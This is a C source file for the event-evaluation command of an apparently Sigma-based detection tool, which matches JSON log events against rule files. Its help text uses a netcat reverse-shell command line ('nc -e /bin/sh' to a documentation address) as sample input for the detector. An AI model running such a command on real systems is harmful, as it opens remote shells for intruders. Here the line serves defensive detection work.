/* SPDX-License-Identifier: Apache-2.0 */
/* Tool: ringfort-sigma eval */
#include "tool.h"

#include <errno.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MAX_LINE (16u * 1024 * 1024)

static void usage(FILE *stream)
{
	fprintf(stream,
		"Usage: ringfort-sigma eval --rules PATH [OPTION]... < EVENTS\n"
		"\n"
		"Read events from standard input, one flat JSON object per line with Sigma's names\n"
		"for fields, and print a line for every rule that an event matches.\n"
		"\n"
		"Every rule is tried on every event, whatever its log source; --category limits that.\n"
		"A number is compared by its text, a list matches when one of its elements does.\n"
		"Rules that are refused are named on standard error, and the others go on.\n"
		"\n"
		"Options:\n"
		"  --rules PATH         file or folder of rules; may be given several times\n"
		"  --category C         only rules whose log source has this category, for example\n"
		"                       process_creation, file_event or network_connection\n"
		"  --placeholders FILE  values for %%name%% in rules that say `expand'\n"
		"  --json               print JSON lines: event (from 0), rule_id, title, level, author\n"
		"  --help               this text\n"
		"\n"
		"Exit codes: 0 all events were read; 2 wrong usage, or a line that is not an event\n"
		"(its number is told, from 1, and nothing is read after it).\n"
		"\n"
		"Example:\n"
		"  echo '{\"Image\": \"/usr/bin/nc\", \"CommandLine\": \"nc -e /bin/sh 192.0.2.1 99\"}' |\n"
		"      ringfort-sigma eval --rules rules/ --category process_creation\n");
}

struct eval {
	bool json;
	unsigned long long event;
};

static int set_text(json_t *object, const char *key, const char *text)
{
	return json_object_set_new(object, key, text ? json_string(text) : json_null());
}

static void print_json(unsigned long long event, const struct sigma_rule_info *info)
{
	json_t *object = json_object();

	json_object_set_new(object, "event", json_integer((json_int_t)event));
	set_text(object, "rule_id", info->id);
	set_text(object, "title", info->title);
	set_text(object, "level", sigma_level_name(info->level));
	set_text(object, "author", info->author);
	json_dumpf(object, stdout, JSON_COMPACT);
	putchar('\n');
	json_decref(object);
}

static void on_match(const struct sigma_match *match, void *userdata)
{
	const struct sigma_rule_info *info = sigma_rule_info(match->rule);
	const struct eval *eval = userdata;

	if (eval->json)
		print_json(eval->event, info);
	else
		printf("event %llu: %s: %s (%s, by %s)\n", eval->event,
		       sigma_level_name(info->level), info->title, info->id ? info->id : "no id",
		       info->author ? info->author : "unknown");
}

static void on_report(const struct sigma_report *report, void *userdata)
{
	if (report->verdict == SIGMA_REFUSED)
		fprintf(stderr, "%s:%u: refused: %s\n", report->file, report->line, report->reason);
}

static json_t *parse_line(const char *line, size_t n, json_error_t *ret_error)
{
	const size_t flags = JSON_REJECT_DUPLICATES | JSON_ALLOW_NUL;
	json_t *json = json_loadb(line, n, flags, ret_error);

	/* Integers beyond 64 bits are numbers all the same. */
	if (!json && json_error_code(ret_error) == json_error_numeric_overflow)
		json = json_loadb(line, n, flags | JSON_DECODE_INT_AS_REAL, ret_error);
	return json;
}

static int eval_line(struct eval *eval, struct sigma_rules *rules, const char *line, size_t n,
		     char *ret_reason, size_t n_reason)
{
	_cleanup_(json_event_done) struct json_event event = { 0 };
	json_error_t error;
	json_t *json = parse_line(line, n, &error);
	int r;

	if (!json) {
		snprintf(ret_reason, n_reason, "not JSON: %s", error.text);
		return E_REFUSED;
	}
	r = json_event_set(&event, json, ret_reason, n_reason);
	json_decref(json);
	if (r)
		return r;
	r = json_event_match(&event, rules, 0, on_match, eval);
	eval->event++;
	return r < 0 ? r : 0;
}

static int eval_stream(struct eval *eval, struct sigma_rules *rules)
{
	_cleanup_(cleanup_free) char *line = NULL;
	unsigned long long number = 0;
	size_t n_allocated = 0;
	char reason[256];
	ssize_t n;
	int r;

	while ((n = getline(&line, &n_allocated, stdin)) >= 0) {
		number++;
		if (strspn(line, " \t\r\n") == (size_t)n)
			continue;
		if ((size_t)n > MAX_LINE)
			r = snprintf(reason, sizeof(reason), "longer than 16 MiB");
		else
			r = eval_line(eval, rules, line, (size_t)n, reason, sizeof(reason));
		if (!r)
			continue;
		fflush(stdout);
		fprintf(stderr, "ringfort-sigma: line %llu: %s\n", number,
			r > 0 ? reason : strerror(-r));
		return TOOL_USAGE;
	}
	if (fflush(stdout) || ferror(stdin)) {
		fprintf(stderr, "ringfort-sigma: %s\n", strerror(errno));
		return TOOL_USAGE;
	}
	return TOOL_OK;
}

#define MAX_PATHS 64

struct arguments {
	const char *paths[MAX_PATHS];
	size_t n_paths;
	const char *category;
	const char *placeholders;
	bool json, help;
};

static int parse_arguments(struct arguments *arguments, int argc, char **argv)
{
	static const struct option options[] = { { "rules", required_argument, NULL, 'r' },
						 { "category", required_argument, NULL, 'c' },
						 { "placeholders", required_argument, NULL, 'p' },
						 { "json", no_argument, NULL, 'j' },
						 { "help", no_argument, NULL, 'h' },
						 { 0 } };
	int c;

	while ((c = getopt_long(argc, argv, "r:c:jh", options, NULL)) >= 0) {
		if (c == '?' || (c == 'r' && arguments->n_paths == MAX_PATHS))
			return TOOL_USAGE;
		if (c == 'r')
			arguments->paths[arguments->n_paths++] = optarg;
		if (c == 'c')
			arguments->category = optarg;
		if (c == 'p')
			arguments->placeholders = optarg;
		arguments->json |= c == 'j';
		arguments->help |= c == 'h';
	}
	if (arguments->help || (arguments->n_paths && optind == argc))
		return TOOL_OK;
	usage(stderr);
	return TOOL_USAGE;
}

int tool_eval(int argc, char **argv)
{
	_cleanup_(sigma_placeholders_freep) struct sigma_placeholders *placeholders = NULL;
	_cleanup_(sigma_rules_freep) struct sigma_rules *rules = NULL;
	struct arguments arguments = { 0 };
	struct eval eval = { 0 };
	int r;

	r = parse_arguments(&arguments, argc, argv);
	if (r)
		return r;
	if (arguments.help) {
		usage(stdout);
		return TOOL_OK;
	}
	if (arguments.placeholders && tool_read_placeholders(arguments.placeholders, &placeholders))
		return TOOL_USAGE;
	r = sigma_rules_load(&rules, arguments.paths, arguments.n_paths,
			     &(struct sigma_options){ .category = arguments.category,
						      .placeholders = placeholders,
						      .report = on_report });
	if (r < 0) {
		fprintf(stderr, "ringfort-sigma: the rules cannot be loaded: %s\n", strerror(-r));
		return TOOL_USAGE;
	}
	eval.json = arguments.json;
	return eval_stream(&eval, rules);
}
